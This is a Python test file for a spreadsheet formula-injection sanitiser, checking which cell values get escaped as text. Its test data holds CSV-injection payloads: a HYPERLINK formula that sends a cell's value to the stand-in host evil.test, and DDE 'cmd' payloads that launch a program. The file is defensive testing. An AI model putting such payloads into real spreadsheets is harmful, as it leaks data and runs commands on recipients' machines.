"""Cells that a spreadsheet shows and never runs (alliance.lib.spreadsheet)."""

from __future__ import annotations

import pytest

from alliance.lib.spreadsheet import formula_safe, formula_safe_row


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.test/?x="&A2,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
        "=",
        "-",
        "+",
        "-5e3",
        "-1,234.5",
        "- 5",
    ],
)
def test_a_cell_that_could_start_a_formula_becomes_text(cell: str) -> None:
    assert formula_safe(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["", "Dana", "2025-01-06", "phq9-9", "'=1", " =1", "-5", "+5", "-2.5", "-1,5", "0"]
)
def test_other_cells_and_plain_numbers_are_unchanged(cell: str) -> None:
    assert formula_safe(cell) == cell


def test_a_row() -> None:
    assert formula_safe_row(["a", "=1", "-1"]) == ["a", "'=1", "-1"]
